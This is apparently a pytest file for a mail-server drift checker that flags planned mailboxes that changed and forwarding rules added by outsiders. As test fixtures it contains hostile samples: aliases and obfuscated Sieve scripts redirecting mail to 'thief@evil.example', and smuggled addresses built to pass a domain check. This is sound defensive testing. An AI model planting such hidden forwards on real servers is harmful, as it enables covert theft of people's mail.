"""``drift`` tells what differs on an own mail server, and what strangers put there."""

from __future__ import annotations

import datetime as dt
from collections.abc import Iterable

import pytest

from mailwright.hosts.mail.strangers import is_inside, targets
from mailwright.model.checks import Check, Status
from mailwright.operations.planning import planned
from mailwright.operations.world.mail_drift import mail_drift
from tests.mail_host.worlds import COMPANY, Company
from tests.mailboxes.specs import DOMAIN

DAY = dt.date(2026, 11, 23)


def checks(company: Company) -> tuple[Check, ...]:
    return mail_drift(planned([company.spec], DAY).plans)[DOMAIN]


def told(found: Iterable[Check]) -> set[tuple[str, str, str, tuple[str, ...]]]:
    return {(check.rule, str(check.status), check.name.partition("@")[0], check.found) for check in found}


def test_a_server_as_planned_passes_and_without_an_answer_nothing_is_known(
    served: Company, monkeypatch: pytest.MonkeyPatch
) -> None:
    served.write()
    assert {check.rule for check in checks(served)} >= {"mailbox-line-differs", "mailbox-script-differs"}
    served.up()
    (same,) = checks(served)
    assert (same.rule, same.status) == ("mailboxes-as-planned", Status.PASS)
    monkeypatch.setenv("MAILWRIGHT_SIEVE_PASSWORD", "wrong")
    (unread,) = checks(served)
    assert (unread.rule, unread.status) == ("mail-host-unread", Status.UNKNOWN)


def test_what_was_changed_and_what_strangers_wrote(served: Company) -> None:
    assert served.live is not None
    served.write(COMPANY.replace("chen: {}}", "chen: {}, ghost: {}}"))
    assert "ghost@" in served.run("up").problems[0]
    served.write()
    served.up()
    served.write(COMPANY.replace("chen: {}}", "chen: {}, ghost: {}}"))
    aliases = served.tables / "aliases"
    aliases.write_text(
        f"jobs@{DOMAIN}  li@{DOMAIN}\nbank@{DOMAIN}  thief@evil.example\n"
        + aliases.read_text().replace(f"agent@{DOMAIN}  li", f"agent@{DOMAIN}  chen")
    )
    with served.live.session("li") as session:
        session.put(
            "roundcube", 'require "copy";\r\nReDirect /* ; */ :copy # ;\r\n "thief@evil.example";\r\n'
        )
        session.put("idle", f'redirect "wang@{DOMAIN}";\r\n')
        session.activate("roundcube")
    found = told(checks(served))
    assert {
        ("mailbox-line-differs", "fail", "agent", (f"chen@{DOMAIN}, agent@partner.example",)),
        ("mailbox-line-unknown", "warn", "jobs", (f"li@{DOMAIN}",)),
        ("mailbox-line-unknown", "warn", "bank", ("thief@evil.example",)),
        ("mail-leaves-unknown", "fail", "bank", ("thief@evil.example",)),
        ("mail-leaves-unknown", "fail", "li", ("thief@evil.example",)),
        ("mailbox-script-unknown", "warn", "li", ("roundcube",)),
        ("mailbox-script-unknown", "warn", "li", ("idle",)),
        ("mailbox-not-there", "fail", "ghost", ("Authorization failed",)),
    } <= found
    assert not [each for each in found if each[0] == "mail-leaves-unknown" and each[2] not in ("bank", "li")]


@pytest.mark.parametrize(
    ("script", "wanted"),
    [
        ('redirect "a@x.example";', ["a@x.example"]),
        ('REDIRECT "a@x.example";', ["a@x.example"]),
        ('redirect # ;"\n"a@x.example";', ["a@x.example"]),
        ('redirect /* ; " */ :copy "a@x.example";', ["a@x.example"]),
        ("redirect text:\na@x.example\n.\n;", ["a@x.example"]),
        ('# redirect "a@x.example";\nkeep;', []),
        ('/* redirect "a@x.example"; */ keep;', []),
        ('fileinto "redirect"; set "redirect" "a@x.example";', []),
        ('if true { redirect "a@x.example"; } fileinto "Own";', ["a@x.example"]),
        ('notify :message "hi" "mailto:a@x.example?body=x";', ["hi", "a@x.example"]),
        ('vnd.dovecot.pipe "thief" ["a"];', ["thief", "a"]),
        ('redirect "a\\"b@x.example', ['a"b@x.example']),
        ('vacation "redirect \\"a@x.example\\";"; keep;', []),
    ],
)
def test_scripts_are_read_as_the_server_reads_them(script: str, wanted: list[str]) -> None:
    assert list(targets(script)) == wanted
    assert list(targets(script.replace("\n", "\r\n"))) == wanted


@pytest.mark.parametrize(
    ("target", "inside"),
    [
        (f"wang@{DOMAIN}", True),
        (f"WANG@{DOMAIN.upper()}", True),
        (f"x@evil.example${{unicode:40}}@{DOMAIN}", False),
        (f"x@evil.example@{DOMAIN}", False),
        (f"x@not{DOMAIN}", False),
        ("${to}", False),
    ],
)
def test_only_what_surely_stays_is_inside(target: str, inside: bool) -> None:
    assert is_inside(target, DOMAIN) is inside


def test_an_archive_that_somebody_added_by_hand_is_told(company: Company) -> None:
    company.write()
    company.up()
    (company.tables / "archive_in").write_text(
        f"wang@{DOMAIN}  thief@evil.example\nli@{DOMAIN}  chen@{DOMAIN}\nx@other.example  y@other.example\n"
    )
    (company.tables / "transports").write_text("other.example  smtp:[192.0.2.1]\n")
    found = [check for check in checks(company) if check.status is not Status.PASS]
    leaving = [check for check in found if check.rule == "mail-leaves-unknown"]
    assert [(check.name, check.type, check.found) for check in leaving] == [
        (f"wang@{DOMAIN}", "archive_in", ("thief@evil.example",))
    ]
    assert {check.name for check in found} == {f"wang@{DOMAIN}", f"li@{DOMAIN}"}
